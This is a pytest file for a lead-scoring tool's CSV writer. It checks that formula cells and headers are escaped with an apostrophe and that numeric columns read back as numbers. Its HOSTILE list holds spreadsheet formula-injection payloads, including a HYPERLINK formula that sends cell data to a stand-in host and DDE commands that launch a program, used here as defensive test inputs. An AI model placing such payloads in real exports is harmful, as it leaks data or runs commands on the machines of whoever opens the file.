"""Tables out: formula cells are escaped in every CSV leadml writes, numbers stay numbers."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd

from leadml.data.read import read_table
from leadml.data.write import escape_formulas, write_table
from leadml.modeling.finish import TrainResult
from leadml.schema import LeadSchema

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BIN = Path(sys.executable).parent


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_formula_cells_and_headers_get_an_apostrophe(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "note": [*HOSTILE, "plain", "-12.5", None],
            "=cmd|header": range(9),
            "delta": [-1.5, 2.0, -3.25, 0.0, 1.0, -7.0, 2.5, 1.0, -0.5],
            "mixed": ["=x", 3, None, "-4", "@y", 2.5, "ok", "+1e3", "-z"],
        }
    )
    rows = cells(write_table(frame, tmp_path / "out.csv"))
    header, body = rows[0], rows[1:]
    assert len(body) == 9  # the cell with a carriage return did not cut its row
    assert header == ["note", "'=cmd|header", "delta", "mixed"]
    assert [r[0] for r in body[: len(HOSTILE)]] == ["'" + v for v in HOSTILE]
    assert [r[0] for r in body[len(HOSTILE) :]] == ["plain", "-12.5", ""]
    # Numbers untouched: the negative column reads back as numbers, numeric text stays text.
    assert [r[3] for r in body] == ["'=x", "3", "", "-4", "'@y", "2.5", "ok", "+1e3", "'-z"]
    back = pd.read_csv(tmp_path / "out.csv")
    assert pd.api.types.is_float_dtype(back["delta"])
    assert back["delta"].tolist() == frame["delta"].tolist()


def test_nothing_to_escape_returns_the_same_frame_and_parquet_is_untouched(tmp_path: Path):
    frame = pd.DataFrame({"a": ["x", "y"], "n": [-1, -2], "c": pd.Categorical(["=p", "q"])})
    plain = frame[["a", "n"]]
    assert escape_formulas(plain) is plain
    assert cells(write_table(frame, tmp_path / "t.csv"))[1] == ["x", "-1", "'=p"]
    # Parquet keeps types and is never read as formulas: written as it is.
    back = pd.read_parquet(write_table(frame, tmp_path / "t.parquet"))
    assert back["c"].astype(str).tolist() == ["=p", "q"]


def test_leadml_score_escapes_what_a_crm_export_carried(
    trained: TrainResult, leads: pd.DataFrame, schema: LeadSchema, tmp_path: Path
) -> None:
    """Through the real `leadml score`: a hostile export in (a free-text column and a
    categorical feature), a safe CSV out."""
    columns = ["job_title", "lead_source"]
    leads = leads.drop(columns=[schema.target]).head(len(HOSTILE)).copy()
    for column in columns:
        leads[column] = HOSTILE
    source = tmp_path / "export.csv"
    leads.to_csv(source, index=False, lineterminator="\r\n")
    out = tmp_path / "scored.csv"
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env["LEADML_HOME"] = str(tmp_path)
    done = subprocess.run(
        [str(BIN / "leadml"), "score", "--model", str(trained.bundle), "--data", str(source),
         "--out", str(out)],
        capture_output=True, text=True, cwd=tmp_path, env=env, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    rows = cells(out)
    assert len(rows) == len(HOSTILE) + 1
    for column in columns:
        at = rows[0].index(column)
        assert [r[at] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    # The scores themselves are plain numbers, read back as numbers.
    scored = read_table(out)
    assert pd.api.types.is_float_dtype(scored["probability"])
    assert scored["probability"].between(0, 1).all()
